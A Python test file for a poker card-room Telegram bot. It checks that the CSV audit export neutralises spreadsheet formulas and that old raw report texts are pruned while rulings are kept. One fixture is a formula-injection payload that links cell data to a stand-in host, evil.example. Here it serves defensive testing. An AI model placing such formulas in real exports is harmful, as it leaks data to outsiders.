"""The card room's records (point 5): formulas neutralised in the CSV, the person and the TD's decision
kept, old raw texts pruned by the retention setting."""

from __future__ import annotations

import csv
import json
import os
import time
from datetime import timedelta
from pathlib import Path

from bot.cli import main
from bot.clock import utc_now
from bot.storage import CallState, NewAuditEntry
from tests.telegram.conftest import FLOOR_REPORT, button_data, seed_room

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"ver") UTG sube a 1.100'


def test_a_formula_sent_as_a_report_is_inert_in_the_csv_with_person_and_decision(
    bot, card, fake_bot_api, tmp_path, monkeypatch
):
    fake_bot_api.inject_message(card.dealer, FORMULA)
    fake_bot_api.inject_message(card.dealer, "@SUM(1+1) " + FLOOR_REPORT)
    page = fake_bot_api.wait_for("sendMessage", chat_id=card.td)[0].result
    fake_bot_api.inject_callback(card.td, page["message_id"], button_data(page, "Resuelta"))
    prompt = fake_bot_api.wait_for("sendMessage", count=2, chat_id=card.td)[1].result
    fake_bot_api.inject_message(card.td, "-2+3 fichas: cuenta como call", reply_to=prompt["message_id"])
    fake_bot_api.wait_for("sendMessage", count=3, chat_id=card.dealer)
    assert bot.store.get_floor_call(1).state is CallState.RESOLVED

    for name in [n for n in os.environ if n.startswith("FLOORCALL_")]:
        monkeypatch.delenv(name)
    config = tmp_path / "audit.toml"
    config.write_text(f"database = {json.dumps(bot.config.database)}\n", encoding="utf-8")
    out = tmp_path / "audit.csv"
    assert main(["audit", "--config", str(config), "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["input_text"][:12] for r in rows] == ["'=HYPERLINK(", "'@SUM(1+1) C"]
    assert [r["user_id"] for r in rows] == [str(card.dealer)] * 2
    assert [r["final_decision"] for r in rows] == ["", "'-2+3 fichas: cuenta como call"]
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())


def test_the_retention_setting_prunes_old_raw_texts_and_keeps_the_rulings(start_bot, fake_bot_api, tmp_path):
    first = start_bot()
    card = seed_room(first.store, fake_bot_api)
    old = first.store.append_audit(
        NewAuditEntry(
            input_text="el asiento 3 dice all-in",
            chat_id=card.dealer,
            user_id=card.dealer,
            ruling={"rules": ["tda-2024:45-A"]},
            created_at=utc_now() - timedelta(days=40),
        )
    )
    recent = first.store.append_audit(NewAuditEntry(input_text="hoy", chat_id=card.dealer))
    first.stop()
    bot = start_bot(audit_retention_days=30)
    deadline = time.monotonic() + 5
    while bot.store.get_audit(old.id).input_text and time.monotonic() < deadline:
        time.sleep(0.05)
    pruned = bot.store.get_audit(old.id)
    assert (pruned.input_text, pruned.ruling, pruned.user_id) == (
        "",
        {"rules": ["tda-2024:45-A"]},
        card.dealer,
    )
    assert bot.store.get_audit(recent.id).input_text == "hoy"
    assert Path(bot.config.database).exists()
